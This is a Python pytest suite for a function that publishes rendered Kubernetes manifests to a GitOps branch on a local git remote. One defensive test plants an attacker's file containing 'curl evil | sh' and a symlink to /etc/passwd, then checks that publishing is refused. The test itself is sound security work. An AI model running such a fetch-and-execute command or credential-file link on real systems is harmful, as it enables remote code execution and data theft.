"""Publishing rendered manifests to the gitops branch, against a real (local, bare) remote:
what a GitOps controller then reads is exactly what `pulumi up` rendered."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from common.errors import MlopsError
from ml.release.gitops import publish_manifests, rendered_directory
from tests.conftest import Cli


def git(cwd: Path, *args: str) -> str:
    done = subprocess.run(["git", *args], cwd=cwd, capture_output=True, text=True, check=True)
    return done.stdout


@pytest.fixture
def remote(tmp_path: Path) -> Path:
    bare = tmp_path / "origin.git"
    subprocess.run(["git", "init", "--quiet", "--bare", str(bare)], check=True)
    return bare


def rendered(root: Path, files: dict[str, str]) -> Path:
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    return root


def tree(remote: Path, branch: str = "gitops") -> dict[str, str]:
    """Every file on the branch -> its content, as a controller's clone would see it."""
    names = git(remote, "ls-tree", "-r", "--name-only", branch).split()
    return {name: git(remote, "show", f"{branch}:{name}") for name in names}


def test_publish_creates_the_branch_with_exactly_the_rendered_files(
    remote: Path, tmp_path: Path
) -> None:
    source = rendered(
        tmp_path / "k8s", {"1-manifest/deployment.yaml": "kind: Deployment\n", "ns.yaml": "x: 1\n"}
    )
    published = publish_manifests(source, "staging", str(remote), message="staging v1")
    assert published.commit is not None and published.files == 2, published
    assert tree(remote) == {
        "deploy/k8s/staging/1-manifest/deployment.yaml": "kind: Deployment\n",
        "deploy/k8s/staging/ns.yaml": "x: 1\n",
    }
    author = git(remote, "log", "-1", "--format=%an <%ae>|%s", "gitops").strip()
    assert author.startswith("github-actions[bot] <") and author.endswith("|staging v1"), author


def test_publishing_the_same_manifests_again_commits_nothing(remote: Path, tmp_path: Path) -> None:
    source = rendered(tmp_path / "k8s", {"deployment.yaml": "kind: Deployment\n"})
    first = publish_manifests(source, "staging", str(remote), message="one")
    again = publish_manifests(source, "staging", str(remote), message="two")
    assert again.commit is None, "an unchanged render must not make a commit"
    assert git(remote, "rev-parse", "gitops").strip() == first.commit


def test_a_new_render_replaces_the_stack_directory_and_leaves_other_stacks(
    remote: Path, tmp_path: Path
) -> None:
    # given prod and staging already published
    publish_manifests(
        rendered(tmp_path / "p", {"a.yaml": "prod\n"}), "prod", str(remote), message="p"
    )
    publish_manifests(
        rendered(tmp_path / "s1", {"old.yaml": "old\n", "deployment.yaml": "version: 1\n"}),
        "staging",
        str(remote),
        message="s1",
    )
    # when staging renders again without old.yaml and with version 2
    second = rendered(tmp_path / "s2", {"deployment.yaml": "version: 2\n"})
    published = publish_manifests(second, "staging", str(remote), message="s2")
    # then the branch holds exactly the new render for staging, and prod as it was
    assert published.commit is not None
    assert tree(remote) == {
        "deploy/k8s/prod/a.yaml": "prod\n",
        "deploy/k8s/staging/deployment.yaml": "version: 2\n",
    }


@pytest.mark.parametrize("planted", ["script.sh", "link.yaml"])
def test_anything_but_yaml_manifests_is_refused_before_a_push(
    remote: Path, tmp_path: Path, planted: str
) -> None:
    # given an attacker's file among the rendered manifests
    source = rendered(tmp_path / "k8s", {"deployment.yaml": "kind: Deployment\n"})
    if planted.endswith(".yaml"):
        (source / planted).symlink_to("/etc/passwd")
    else:
        (source / planted).write_text("curl evil | sh\n")
    with pytest.raises(MlopsError, match=f"{planted}: .*refusing to publish"):
        publish_manifests(source, "staging", str(remote), message="x")
    assert git(remote, "branch", "--list").strip() == "", "nothing may be pushed"


def test_rendered_directory_is_relative_to_the_program_directory(repo_root: Path) -> None:
    # Pulumi runs the program in `main:` (infra/), where renderYamlToDirectory resolves
    assert (
        rendered_directory(repo_root, "build/k8s/staging") == repo_root / "infra/build/k8s/staging"
    )
    assert rendered_directory(repo_root, "/abs/k8s") == Path("/abs/k8s")


def test_cli_publish_for_a_stack_without_kubernetes_fails_in_one_line(
    repo_root: Path, cli: Cli
) -> None:
    code, _, error = cli(
        "infra", "publish-manifests", "--stack", "dev", "--root", repo_root,
        "--remote", "file:///nowhere",
    )  # fmt: skip
    assert code == 2, error
    assert error.startswith("error: stack dev renders no Kubernetes manifests"), error
    assert error.count("\n") == 1, error
